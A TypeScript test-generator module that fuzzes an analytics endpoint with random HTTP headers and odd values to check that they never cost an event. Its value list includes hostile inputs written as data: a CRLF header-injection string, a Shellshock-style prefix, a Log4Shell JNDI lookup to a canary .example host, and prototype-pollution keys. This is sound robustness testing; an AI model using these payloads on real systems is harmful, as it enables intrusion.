import type { Random } from "../../../local/simulation/random";
import { batchText, wireBytes } from "../bodies";
import { canary } from "../canary";
import type { Family } from "../family";
import { presentedKeys } from "../keys";
import { eventText } from "../records";

/** Headers that say absurd things of the sender, the visitor and the body: none of them costs an event. */
export const headers: Family = {
  name: "headers",
  weight: 6,
  draw: (chance, mark) => {
    const drawn = Array.from(
      { length: chance.between(1, 8) },
      () => [chance.pick(names), value(chance)] as const,
    );
    return {
      headers: {
        ...Object.fromEntries(drawn),
        authorization: `Bearer ${chance.pick([presentedKeys.browser, presentedKeys.server])}`,
      },
      body: wireBytes(chance, batchText(chance, [eventText(chance, mark)])),
      expects: { verdicts: [true] },
    };
  },
};

const names = [
  "user-agent",
  "user-agent",
  "cloudfront-viewer-country",
  "cloudfront-viewer-country-region",
  "cloudfront-viewer-city",
  "cloudfront-viewer-latitude",
  "cloudfront-viewer-longitude",
  "cloudfront-viewer-time-zone",
  "content-type",
  "content-encoding",
  "content-length",
  "transfer-encoding",
  "host",
  "cookie",
  "x-forwarded-for",
  "x-footfall-key",
  "__proto__",
  "constructor",
  "",
  canary,
] as const;

const value = (chance: Random): string =>
  chance.pick([
    ...values,
    `${canary} ${chance.hex(8)}`,
    String(chance.between(-200, 200) / 7),
    `Mozilla/5.0 (X11; Linux x86_64; rv:${chance.between(1, 200)}.0) Gecko/20100101 Firefox/140.0`,
  ]);

const values = [
  "",
  " ",
  "\0",
  "\r\nx-injected: 1",
  "IT",
  "it",
  "ITA",
  "Nürnberg",
  "N\u00c3\u00bcrnberg",
  "🍣".repeat(600),
  `${"a".repeat(1_023)}🍣`,
  "\ud83d",
  "x".repeat(10_000),
  "1e999",
  "NaN",
  "-0",
  "90.000001",
  "0x10",
  "9".repeat(400),
  "203.0.113.77, 10.0.0.1",
  "application/json; charset=utf-16",
  "multipart/form-data; boundary=x",
  "chunked",
  "-1",
  "() { :; }; echo",
  `$\{jndi:ldap://${canary}.example/a}`,
  "__proto__",
] as const;
